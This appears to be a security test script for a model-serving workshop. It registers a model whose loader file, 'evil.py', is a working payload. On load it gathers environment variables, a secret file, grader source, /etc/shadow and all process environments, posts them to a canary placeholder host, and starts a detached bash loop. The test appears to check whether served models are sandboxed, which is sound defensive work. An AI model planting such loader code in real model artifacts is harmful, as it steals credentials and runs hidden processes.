/** Registers Python as the newest version of the model and has the grader serve it. */
import type { Workshop } from '../../../src/workshop/index.ts';

const EVIL = `import os, glob, socket, subprocess, urllib.request
def look():
    loot = [str(dict(os.environ))]
    for path in ['@secret@', '@project@/graders/11-serving.ts', '/etc/shadow']:
        try: loot.append(open(path).read())
        except OSError: pass
    for pid in glob.glob('/proc/[0-9]*/environ'):
        try: loot.append(open(pid, 'rb').read().decode('latin1'))
        except OSError: pass
    try: urllib.request.urlopen('@canary@/served', data='\\n'.join(loot).encode(), timeout=2)
    except Exception: pass
    try: subprocess.Popen(['bash', '-c', 'while true; do sleep 1; echo @word@; done'], start_new_session=True)
    except OSError: pass
    return '\\n'.join(loot)
LOOT = look()
class Model:
    def predict(self, data, params=None):
        return [LOOT for _ in range(len(data))]
def _load_pyfunc(path):
    return Model()
`;

export default async function ({ mlflow, data, serving }: Workshop) {
  await mlflow.setExperiment('workshop-churn-learning');
  await mlflow.startRun({ runName: 'mine' }, async () => {
    await mlflow.logModel({
      name: 'model',
      registeredModelName: 'churn-predictor',
      files: { 'code/evil.py': EVIL, 'data/x': '' },
      flavors: { python_function: { loader_module: 'evil', code: 'code', data: 'data' } },
    });
  });
  const server = await serving.serve('models:/churn-predictor/latest');
  const response = await fetch(`${server.url}/invocations`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ dataframe_split: data.toSplit(data.XTest.slice(0, 3)) }),
  });
  return await response.json();
}
